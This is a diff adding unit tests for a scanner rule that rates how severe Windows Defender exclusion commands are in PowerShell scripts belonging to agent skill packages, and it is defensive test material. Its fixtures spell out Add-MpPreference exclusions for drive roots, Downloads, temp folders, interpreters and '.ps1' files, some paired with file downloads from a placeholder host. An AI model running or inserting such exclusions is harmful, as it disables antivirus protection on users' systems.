@@ -1127,3 +1127,52 @@ describe('tamper (device install verification)', () => {
     expect(Date.now() - t).toBeLessThan(200);
   });
 });
+
+describe('SG-TAMPER-003 Defender exclusions', () => {
+  const severity = (script: string, skill = '# Sync\n\nRun `scripts/x.ps1`.\n') =>
+    findingsOf(script, 'scripts/x.ps1', undefined, { 'SKILL.md': skill })
+      .filter((f) => f.rule_id === 'SG-TAMPER-003')
+      .map((f) => f.severity);
+  const NARROW =
+    "$folder = 'D:\\Sync\\Data'\n$proc = 'D:\\Sync\\bin\\SyncSvc.exe'\nAdd-MpPreference -ExclusionPath $folder\nAdd-MpPreference -ExclusionProcess $proc\n";
+
+  it('should rate one fixed deep folder and one program by full path MEDIUM', () => {
+    expect(severity(NARROW)).toEqual(['MEDIUM', 'MEDIUM']);
+  });
+
+  it('should rate the same exclusions HIGH when the skill downloads files', () => {
+    expect(
+      severity(NARROW + "Invoke-WebRequest 'https://x.example/p.zip' -OutFile D:\\Sync\\Data\\p.zip\n"),
+    ).toEqual(['HIGH', 'HIGH']);
+    expect(
+      severity(NARROW, '# Sync\n\n```powershell\niwr https://x.example/s.exe -OutFile s.exe\n```\n'),
+    ).toEqual(['HIGH', 'HIGH']);
+  });
+
+  it('should rate drive roots, profiles, temp, bare or interpreter processes and several targets HIGH', () => {
+    for (const line of [
+      "Add-MpPreference -ExclusionPath 'C:\\'",
+      "Add-MpPreference -ExclusionPath 'C:\\Users\\me\\Downloads'",
+      'Add-MpPreference -ExclusionPath "$env:LOCALAPPDATA\\Tool"',
+      "Add-MpPreference -ExclusionPath 'C:\\Tool'",
+      "Add-MpPreference -ExclusionPath 'D:\\A\\B', 'C:\\'",
+      "Add-MpPreference -ExclusionProcess 'svc.exe'",
+      "Add-MpPreference -ExclusionProcess 'C:\\Program Files\\nodejs\\node.exe'",
+      "Add-MpPreference -ExclusionExtension '.ps1'",
+    ])
+      expect(severity(line + '\n')).toEqual(['HIGH']);
+  });
+
+  it('should scan 1 MiB of assignments and exclusions in under a second', () => {
+    const text = "$f = 'D:\\A\\B'  \t".repeat((1024 * 1024) / 16) + '\nAdd-MpPreference -ExclusionPath $f\n';
+    const start = performance.now();
+    severity(text);
+    expect(performance.now() - start).toBeLessThan(1000);
+  });
+
+  it('should rate a variable assigned twice HIGH', () => {
+    expect(severity(NARROW + "$folder = 'C:\\'\nAdd-MpPreference -ExclusionPath $folder\n")).toContain(
+      'HIGH',
+    );
+  });
+});
